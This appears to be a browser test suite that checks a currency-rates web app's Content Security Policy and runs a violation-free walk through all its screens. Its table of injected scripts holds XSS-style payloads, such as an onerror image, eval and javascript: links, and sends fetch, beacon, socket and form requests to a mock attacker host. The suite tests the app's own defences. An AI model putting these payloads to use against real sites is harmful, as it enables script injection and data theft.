// Content security policy of the page. An injected script cannot create markup, evaluate text or send data. The page
// itself violates nothing in a walk through all screens.

import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { temporaryDirectory } from '../../support/app.ts'
import { until } from '../../support/terminal.ts'
import {
  assertClean,
  chooseFile,
  createDocuments,
  enterSecret,
  openBrowser,
  openPageApp,
  openScreen,
  openVisit,
  setDownloadFolder,
  signIn,
} from '../support.ts'
import { DNS_FLAG, EVIL, openWebsite } from './attacker.ts'

const browser = await openBrowser(DNS_FLAG, '--disable-features=LocalNetworkAccessChecks')
const app = await openPageApp({ backfillFrom: '2025-01-01' })
const website = await openWebsite()
const REMOTE = `http://127.0.0.1:${website.port}/taken`
after(() => assert.deepEqual(website.requests, []))

/** Injected scripts, and the directive that blocks each. */
const INJECTED: [what: string, script: string, directive: string][] = [
  ['markup', `document.body.innerHTML = '<img src=x onerror="taken=1">'`, 'require-trusted-types-for'],
  ['markup beside', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`, 'require-trusted-types-for'],
  ['a document', `document.write('<script>taken=1</script>')`, 'require-trusted-types-for'],
  ['a frame with text', `document.createElement('iframe').srcdoc = '<p>'`, 'require-trusted-types-for'],
  ['eval', `eval('taken=1')`, 'require-trusted-types-for|script-src'],
  ['a function of text', `new Function('taken=1')()`, 'require-trusted-types-for|script-src'],
  ['a timer of text', `setTimeout('taken=1')`, 'require-trusted-types-for|script-src'],
  ['a policy of its own', `trustedTypes.createPolicy('x', {})`, 'trusted-types'],
  ['the text of a script', `document.createElement('script').text = 'taken=1'`, 'require-trusted-types-for'],
  [
    'the source of a script',
    `document.createElement('script').src = '${REMOTE}'`,
    'require-trusted-types-for',
  ],
  [
    'a script of children',
    `const s = document.createElement('script'); s.append('taken=1'); document.body.append(s)`,
    'require-trusted-types-for|script-src',
  ],
  [
    'a handler',
    `document.body.setAttribute('onclick', 'taken=1'); document.body.click()`,
    'require-trusted-types-for|script-src',
  ],
  [
    'a link that is a script',
    `const a = document.createElement('a'); a.href = 'javascript:taken=1'; document.body.append(a); a.click()`,
    'require-trusted-types-for|script-src',
  ],
  [
    'a style',
    `const s = document.createElement('style'); s.append('*{background:url(${REMOTE})}'); document.head.append(s)`,
    'style-src',
  ],
  ['a style of an element', `document.body.setAttribute('style', 'background:url(${REMOTE})')`, 'style-src'],
  [
    'a style sheet',
    `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${REMOTE}'; document.head.append(l)`,
    'style-src',
  ],
  ['a worker', `new Worker('/page/x.js')`, 'require-trusted-types-for'],
  ['fetch', `fetch('${REMOTE}').catch(() => {})`, 'connect-src'],
  ['fetch by name', `fetch('http://${EVIL}:${website.port}/taken').catch(() => {})`, 'connect-src'],
  ['a beacon', `navigator.sendBeacon('${REMOTE}', 'x')`, 'connect-src'],
  ['a socket', `new WebSocket('ws://127.0.0.1:${website.port}/')`, 'connect-src'],
  ['a stream of events', `new EventSource('${REMOTE}')`, 'connect-src'],
  ['an image', `new Image().src = '${REMOTE}'`, 'img-src'],
  ['a sound', `const a = new Audio('${REMOTE}'); a.load()`, 'media-src|default-src'],
  ['a font', `new FontFace('x', 'url(${REMOTE})').load().catch(() => {})`, 'font-src|default-src'],
  [
    'a frame',
    `const f = document.createElement('iframe'); f.src = '${REMOTE}'; document.body.append(f)`,
    'frame-src|default-src',
  ],
  [
    'an object',
    `const o = document.createElement('object'); o.data = '${REMOTE}'; document.body.append(o)`,
    'object-src|default-src|require-trusted',
  ],
  [
    'a form',
    `const f = document.createElement('form'); f.action = '${REMOTE}'; document.body.append(f); f.submit()`,
    'form-action',
  ],
  [
    'a base',
    `const b = document.createElement('base'); b.href = '${REMOTE}'; document.head.append(b)`,
    'base-uri',
  ],
  [
    'a manifest',
    `const l = document.createElement('link'); l.rel = 'manifest'; l.href = '${REMOTE}'; document.head.append(l)`,
    'manifest-src|default-src',
  ],
]
const target = await openVisit(browser, app)
await signIn(target, app)
for (const [what, script, directive] of INJECTED) {
  test(`the policy blocks an injected script with ${what}`, async () => {
    const { page, cdp, violations } = target
    const before = violations.length
    // Runs in a task of the page, since the policy may not apply to scripts of the debugger.
    const expression = `setTimeout(() => { ${script} })`
    await cdp.send('Runtime.evaluate', { expression, allowUnsafeEvalBlockedByCSP: false })
    const isBlocked = () => violations.slice(before).some((one) => new RegExp(`^(${directive})`).test(one))
    if (what !== 'a manifest') await until(isBlocked).catch(() => assert.fail(`${violations.slice(before)}`))
    assert.equal(await page.evaluate(() => 'taken' in window), false)
    assert.deepEqual(website.requests, [])
  })
}

for (const language of ['es', 'en'] as const) {
  for (const colours of ['light', 'dark'] as const) {
    test(`a walk through all screens in ${language} and ${colours} violates no policy`, async (t) => {
      const visit = await openVisit(browser, app, { language, colours })
      const { page } = visit
      const folder = temporaryDirectory(t)
      await setDownloadFolder(visit, folder)
      await page.waitForSelector('form.secret')
      await page.type('form.secret [type=password]', 'no secret')
      await page.click('form.secret [type=submit]')
      await page.waitForFunction(() => document.querySelector('.refusal')?.textContent)
      await page.reload()
      await enterSecret(visit, app.key)
      await page.waitForSelector('.statistics td')
      await page.keyboard.press('Shift') // renders the table of currencies
      for (const step of ['.day-picker button', '.swap', '.copy', '.currency'])
        await page.waitForSelector(step).then((element) => element?.click())
      for (const span of await page.$$('.history input[type=radio], .history .segmented button'))
        await span.evaluate((one) => (one as HTMLElement).click())
      await page.type('.search input', 'eu')
      await page.click('.history-tools .buttons button')
      for (const file of ['excel', 'spanish', 'programs'] as const) {
        await chooseFile(visit, '.history-tools', file)
        await chooseFile(visit, '.currencies', file)
      }
      for (const [view, selector] of [
        ['closes', '.months .data td'],
        ['list', 'textarea.pasted'],
        ['differential', '.positions'],
        ['certificate?amount=1500&source=EUR&target=CRC&side=venta&on=2026-11-20', '.paper .qr-code'],
      ] as const) {
        await page.goto(`${visit.url}/#rates/${view}`)
        await page.waitForSelector(selector)
      }
      await openScreen(visit, 'status')
      await page.waitForSelector('.status .card')
      await openScreen(visit, 'documents')
      await enterSecret(visit, app.token)
      const pixel = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64')
      await createDocuments(app, [
        { name: 'a.txt', mimetype: 'text/plain', content: 'text' },
        { name: 'b.gif', mimetype: 'image/gif', content: pixel },
        { name: 'c.pdf', mimetype: 'application/pdf', content: '%PDF-1.7' },
      ])
      await until(async () => (await page.$$('.document')).length >= 3)
      for (const name of ['a.txt', 'b.gif', 'c.pdf']) {
        await page.click(`.document-open::-p-text(${name})`)
        await page.waitForSelector('dialog[open] .preview :is(pre, img, .notice)')
        await page.keyboard.press('Escape')
        await page.waitForSelector('dialog[open]', { hidden: true })
      }
      for (const button of ['.language', '.header-tools > .round']) {
        await page.click(button)
        await page.click(button)
      }
      await page.click('.menu summary')
      await page.click('.menu-inside > .button')
      await page.waitForSelector('form.secret')
      assertClean(visit)
      await page.browserContext().close()
    })
  }
}
